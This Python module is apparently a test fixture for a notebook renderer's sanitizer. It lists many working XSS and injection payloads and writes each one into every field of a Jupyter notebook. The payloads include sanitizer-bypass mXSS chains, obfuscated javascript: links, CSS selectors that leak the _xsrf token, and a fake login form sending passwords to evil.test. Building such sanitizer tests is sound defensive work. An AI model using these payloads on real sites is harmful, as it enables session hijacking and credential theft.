"""What an attacker writes into a notebook that others look at, and every place to write it into.

Whatever of it runs sets ``window.ran``; whatever of it loads something asks ``https://evil.test``.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any

RUN = "window.ran=1"
EVIL = "https://evil.test/x"
_SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script>"
    f"<image href='{EVIL}'/></svg>"
)
_SVG_URL = "data:image/svg+xml;base64," + base64.b64encode(_SVG.encode()).decode()
_PAGE_URL = "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode()

PAYLOADS = {
    # scripts and handlers
    "script": f"<script>{RUN}</script>",
    "script in two cases": f"<ScRiPt >{RUN}</sCrIpT\n>",
    "script from elsewhere": f"<script src={EVIL}></script>",
    "script, half": f"<script>{RUN}",
    "script around script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image onerror": f"<img src=x onerror={RUN}>",
    "image onerror with a slash": f"<img/src=x/onerror={RUN}>",
    "image onerror with backticks": f"<img src=`x`onerror={RUN}>",
    "image onerror with a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "image onerror with NUL": f"<img src=x on\0error={RUN}>",
    "image that has no end": f'<img src=x onerror="{RUN}" x="',
    "ends an attribute": f"\"'><img src=x onerror={RUN}>",
    "ends an attribute, stays inside": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "ends elements": f"</code></pre></div></section></main></body></html><script>{RUN}</script>",
    "ends a comment": f"--><img src=x onerror={RUN}><!--",
    "ends a style": f"</style></title></textarea></noscript><img src=x onerror={RUN}>",
    "ontoggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "onfocus": f"<a tabindex=0 autofocus onfocus={RUN} href=#x>x</a>",
    "onanimation": (
        f"<style>@keyframes a{{}}</style><b style='animation-name:a' onanimationstart={RUN}>x</b>"
    ),
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "video": f"<video src={EVIL} onerror={RUN}><source src={EVIL} onerror={RUN}></video>",
    "audio": f"<audio src={EVIL} autoplay onerror={RUN}>",
    "body": f"<body onload={RUN} background={EVIL}>",
    "select": f"<select autofocus onfocus={RUN}><option>x</select>",
    # frames and what loads
    "srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frame of a script": f"<iframe src=javascript:parent.{RUN}></iframe>",
    "frame of data": f"<iframe src='{_PAGE_URL}'></iframe>",
    "object": f"<object data='{_PAGE_URL}'></object><object data={EVIL}></object>",
    "embed": f"<embed src={EVIL}><embed src=javascript:{RUN}>",
    "applet": f"<applet code={EVIL}></applet>",
    "portal": f"<portal src={EVIL}></portal><fencedframe src={EVIL}></fencedframe>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=''>",
    "base": "<base href=https://evil.test/ target=_top>",
    "link": f"<link rel=stylesheet href={EVIL}><link rel=prefetch href={EVIL}>",
    "style with import": f"<style>@import '{EVIL}'; * {{ background: url({EVIL}) }}</style>",
    "style that covers": "<div style='position:fixed;inset:0;z-index:9999'>Log in again</div>",
    "style with url": f"<p style='background-image:url({EVIL});background:url({EVIL})'>x</p>",
    "style with escapes": f"<p style='background:\\75\\72\\6c({EVIL})'>x</p>",
    "style with a comment": f"<p style='background:u/**/rl({EVIL})'>x</p>",
    "style with a set": f"<p style='background:image-set(\"{EVIL}\" 1x)'>x</p>",
    "style with a behaviour": f"<p style='behavior:url({EVIL});-moz-binding:url({EVIL})'>x</p>",
    "style with an expression": f"<p style='width:expression({RUN})'>x</p>",
    "style that moves": "<p style='margin:-900px 0 0 -900px;transform:scale(90)'>x</p>",
    "remote image": f"<img src={EVIL}>",
    "remote image without a scheme": "<img src=//evil.test/x>",
    "image set": f"<img srcset='{EVIL} 1x' src=data:,x>",
    "picture": f"<picture><source srcset={EVIL}><img src=x></picture>",
    "image of this server": "<img src=/logout><img src=../api/contents>",
    "lazy image": f"<img loading=lazy src={EVIL} ping={EVIL}>",
    "table background": f"<table background={EVIL}><td background={EVIL}>x</table>",
    "image that is SVG": f'<img src="{_SVG_URL}">',
    "style that tells by attributes": (
        f"<style>input[name=_xsrf][value^=a] {{ background: url({EVIL}) }}</style>"
        f"<link rel=stylesheet href='data:text/css,input[value^=a]{{background:url({EVIL})}}'>"
    ),
    "style with a font": (
        f"<style>@font-face {{ font-family: x; src: url({EVIL}) }} p {{ font-family: x }}</style>"
        f"<p style='font-family:x;cursor:url({EVIL}),auto;list-style:url({EVIL})'>x</p>"
    ),
    "what is fetched ahead": (
        "<script type=speculationrules>"
        f'{{"prerender":[{{"source":"list","urls":["{EVIL}"]}}]}}</script>'
        f"<link rel=preconnect href={EVIL}><link rel=modulepreload href={EVIL}>"
    ),
    "what tells of a visit": f"<a attributionsrc={EVIL} href=https://a.test>x</a>",
    "image with everything": (
        f"<img src=data:image/png;base64,aGk= srcset={EVIL} sizes=1 onload={RUN} usemap=#m ismap "
        "crossorigin=use-credentials name=getElementById attributionsrc=https://evil.test>"
    ),
    # links
    "javascript link": f"<a href=javascript:{RUN}>x</a>",
    "javascript link in Markdown": f"[x](javascript:{RUN})",
    "javascript link in angles": f"<javascript:{RUN}>",
    "reference link": f"[x][r]\n\n[r]: javascript:{RUN}",
    "javascript link, tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "javascript link, entity": f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    "javascript link, named entities": (
        f"<a href='java&Tab;script&colon;{RUN}'>x</a> <a href='java&NewLine;script:{RUN}'>x</a> "
        f"[x](java&Tab;script:{RUN}) [x](&#106;avascript:{RUN}) "
        f"<a href='javascript&#0058{RUN}'>x</a>"
    ),
    "javascript link, control": f"<a href='\x01javascript:{RUN}'>x</a>",
    "javascript link, wide": f"<a href='\uff4a\uff41vascript:{RUN}'>x</a>",
    "javascript link in an image": f"![x](javascript:{RUN})",
    "vbscript link": f"<a href=vbscript:{RUN}>x</a>",
    "data link": f"<a href='{_PAGE_URL}'>x</a> [x]({_PAGE_URL})",
    "data link of an SVG": f"<a href='{_SVG_URL}'>x</a>",
    "link with a ping": f"<a href=https://a.test ping={EVIL} target=_blank rel=opener>x</a>",
    "link with a target": "<a href=https://a.test target=opener download>x</a>",
    "link to this server": "<a href=/logout>x</a> <a href='?x'>x</a> [x](/api/shutdown)",
    "link that looks like another": "<a href='https://a.test@evil.test/'>https://a.test</a>",
    "link with a backslash": "<a href='https:\\\\evil.test'>x</a> <a href='/\\evil.test'>x</a>",
    "blob link": "<a href='blob:https://a.test/1'>x</a> <a href='filesystem:x'>x</a>",
    "map": f"<map name=m><area href=javascript:{RUN} shape=default></map><img usemap=#m src=x>",
    # forms and names
    "form": f"<form action={EVIL}><input name=password><button>Log in</button></form>",
    "form action": f"<form><button formaction=javascript:{RUN}>x</button></form>",
    "input image": f"<input type=image src={EVIL} onerror={RUN}>",
    "a page's form": (
        f"<input form=clone name=_xsrf><button form=clone formaction={EVIL}>Clone</button>"
        "<label for=target>x</label><output form=clone name=target_path>x</output>"
    ),
    "popover": (
        f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>x</div>"
        f"<a interestfor=p href=#p onfocus={RUN}>x</a><dialog open onclose={RUN}>x</dialog>"
    ),
    "is index": f"<isindex action=javascript:{RUN}>",
    "clobbering a document": "<img name=cookie><img name=getElementById><form id=body></form>",
    "clobbering by id": "<a id=config></a><a id=config name=url href=https://evil.test>x</a>",
    "clobbering a page's ids": "<div id=cell-1></div><div id=clone></div><h1 id='nb-x y'>x</h1>",
    "classes of the page": "<p class='button primary nb-cell card'>x</p>",
    # parsers that disagree
    "svg": _SVG,
    "svg with a use": (
        f"<svg><use href='{_SVG_URL}#x'/><animate onbegin={RUN} attributeName=x></svg>"
    ),
    "svg with a foreign object": (
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    ),
    "svg with a link": f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    "svg with a description": (
        f"<svg><desc><img src=x onerror={RUN}></desc><title><img src=x onerror={RUN}></title></svg>"
    ),
    "svg in mathematics in svg": (
        f'<svg><foreignObject><math><mi><svg><style><img title="</style><img src onerror={RUN}>">'
    ),
    "select with a style": f"<select><option><style></select><img src=x onerror={RUN}></style>",
    "select in a table": (
        f"<table><select><tr><td><style></select><img src=x onerror={RUN}></style>"
    ),
    "svg in a style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "math": f"<math href=javascript:{RUN}><mtext><img src=x onerror={RUN}></mtext></math>",
    "math with a table": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    "math with two tables": (
        f"<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror={RUN}'>"
    ),
    "math with a form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open>x",
    "textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    "xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "plaintext": f"<plaintext><script>{RUN}</script>",
    "title": f'<title><p title="</title><img src=x onerror={RUN}>">',
    "character data": f"<![CDATA[<script>{RUN}</script>]]>",
    "instruction": f"<?xml version='1.0'?><?import <script>{RUN}</script>?>",
    "conditional comment": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "comment that ends oddly": f"<!--><img src=x onerror={RUN}>--!><img src=x onerror={RUN}>",
    "attribute with an element": f'<p title="<img src=x onerror={RUN}>">x</p>',
    "nested links": "<a href=https://a.test><a href=https://b.test><img src=https://c.test></a></a>",
    "nested table": f"<table><tr><td></table><script>{RUN}</script><table><a href=x>",
    # what is none of HTML's business
    "fence": f'```html" onmouseover="{RUN}\n<script>{RUN}</script>\n```',
    "fence of mermaid": f'```mermaid\ngraph TD; a["<img src=x onerror={RUN}>"]\n```',
    "mathematics": f"$<img src=x onerror={RUN}>$ $$\\href{{javascript:{RUN}}}{{x}}$$",
    "mathematics with text": (
        f"$\\text{{<img src=x onerror={RUN}>}} \\text{{</math><svg onload={RUN}>}}$"
    ),
    "mathematics with attributes": (
        f"$$\\href{{javascript:{RUN}}}{{x}} \\style{{position:fixed;background:url({EVIL})}}{{y}}$$"
        f" $\\class{{button}}{{z}} \\color{{red;background:url({EVIL})}} w$"
        f' $\\color{{" onclick="{RUN}}} v$'
    ),
    "mathematics with sizes": "$\\hspace{9999em} \\kern-99em \\rule{9999em}{99999pt} x$",
    "mathematics in mathematics": (
        f"$$\\text{{\\text{{&lt;/mtext&gt;&lt;script&gt;{RUN}&lt;/script&gt;}}}}$$"
    ),
    "mathematics that is marked": (
        f'<span class="nb-math">$\\text{{&lt;script&gt;{RUN}&lt;/script&gt;}}$</span>'
        '<div class="nb-formula">'
        f"<math href=javascript:{RUN}><mi href=javascript:{RUN}>x</mi></math></div>"
    ),
    "math with an annotation": (
        "<math><semantics><annotation-xml encoding='text/html'>"
        f"<script>{RUN}</script><img src=x onerror={RUN}></annotation-xml></semantics></math>"
    ),
    "math with an action": (
        f"<math><maction actiontype='statusline' xlink:href=javascript:{RUN}><mi>x</mi></maction>"
        f"<mglyph src={EVIL}></mglyph><mi mathbackground='url({EVIL})'>x</mi></math>"
    ),
    "math with HTML": (
        f"<math><mi><p><style><!--</style></p><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"
        "</mi><malignmark></math><p>x<math><mo><svg><title>"
        f"<a id='</title><img src onerror={RUN}>'>"
    ),
    "mathematics in an environment": f"\\begin{{align}}<script>{RUN}</script>\\end{{align}}",
    "terminal": f"\x1b[31m<script>{RUN}</script>\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "terminal colour": f'\x1b[38;2;1;2;3"onmouseover={RUN}m x \x1b[99999999999999999999m',
    "turned text": f'access = "user\u202e \u2066// if admin\u2069 \u2066" <script>{RUN}</script>',
    "half a character": f"\ud83d<script>{RUN}</script>\udc00",
    "template of a server": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> {0} {name}",
    "heading": f'# <img src=x onerror={RUN}> "onmouseover={RUN} x="\n\nx',
    "title of a link": f"[x](https://a.test '\" onmouseover=\"{RUN}')",
    "alternative text": f'![" onerror="{RUN}]({EVIL})',
    "table of pipes": f"|<script>{RUN}</script>|\n|-|\n|[x](javascript:{RUN})|",
}

Place = Callable[[str], dict[str, Any]]


def _code(*outputs: Any, **more: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "metadata": {}, "source": "1", "execution_count": 1}
    return {**cell, "outputs": [*outputs], **more}


def _text(kind: str, source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": kind, "metadata": {}, "source": source, **more}


def _shown(data: Any, metadata: Any = None) -> dict[str, Any]:
    return _code({"output_type": "display_data", "data": data, "metadata": metadata or {}})


_PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)
_MIMES = (
    *("text/html", "text/markdown", "text/latex", "text/plain", "text/vnd.mermaid", "text/x-odd"),
    *("image/svg+xml", "image/png", "image/jpeg", "image/gif", "image/bmp"),
    *("application/javascript", "application/json", "application/pdf", "video/mp4"),
    *("application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json"),
)

PLACES: dict[str, Place] = {
    "markdown": lambda bad: _text("markdown", bad),
    "a list of lines": lambda bad: _text("markdown", bad.splitlines(keepends=True)),  # type: ignore[arg-type]
    "a quote in markdown": lambda bad: _text("markdown", f"> - {bad}"),
    "raw": lambda bad: _text("raw", bad),
    "a heading": lambda bad: _text("heading", bad, level=bad),
    "code": lambda bad: _code(source=bad),
    "code with a magic": lambda bad: _code(source=f"%%html\n{bad}"),
    "the type of a cell": lambda bad: _text(bad, "x"),
    "the id of a cell": lambda bad: _text("markdown", "x", id=bad),
    "a count": lambda bad: _code(execution_count=bad),
    "metadata": lambda bad: _code(metadata={"tags": [bad], "name": bad, "collapsed": bad}),
    "the name of an attachment": lambda bad: _text(
        "markdown", f"![x](attachment:{bad})", attachments={bad: {"image/png": _PNG}}
    ),
    "an attachment": lambda bad: _text(
        "markdown",
        "![x](attachment:a)",
        attachments={"a": {"image/png": bad, "image/svg+xml": bad}},
    ),
    "the type of an attachment": lambda bad: _text(
        "markdown", "<img src='attachment:a'>", attachments={"a": {bad: _PNG}}
    ),
    "stdout": lambda bad: _code({"output_type": "stream", "name": "stdout", "text": bad}),
    "the name of a stream": lambda bad: _code({"output_type": "stream", "name": bad, "text": "x"}),
    "an error": lambda bad: _code(
        {"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad]}
    ),
    "an error without a traceback": lambda bad: _code(
        {"output_type": "error", "ename": bad, "evalue": bad, "traceback": []}
    ),
    "the type of an output": lambda bad: _code({"output_type": bad, "text": bad}),
    "an output that is none": lambda bad: _code(bad),
    "the type of data": lambda bad: _shown({bad: bad}),
    "the sizes of an image": lambda bad: _shown(
        {"image/png": _PNG},
        {"image/png": {"width": f"1 {bad}", "height": bad, "alt": bad, "class": bad}},
    ),
    "two types": lambda bad: _shown({"text/html": bad, "text/plain": bad}),
    **{f"{mime}": lambda bad, mime=mime: _shown({mime: bad}) for mime in _MIMES},  # type: ignore[misc]
    "JSON": lambda bad: _shown({"application/json": {bad: [bad]}}),
}


def notebook_of(*cells: Any, language: str = "python") -> dict[str, Any]:
    """A notebook of *cells*."""
    metadata = {"language_info": {"name": language}, "kernelspec": {"display_name": language}}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": [*cells]}


def everywhere(payload: str) -> dict[str, Any]:
    """A notebook with *payload* in every place."""
    return notebook_of(*(place(payload) for place in PLACES.values()), language=payload)


def hostile_bodies() -> Iterator[tuple[str, bytes]]:
    """Yield a notebook for each payload, as bytes."""
    for name, payload in PAYLOADS.items():
        yield name, json.dumps(everywhere(payload)).encode()
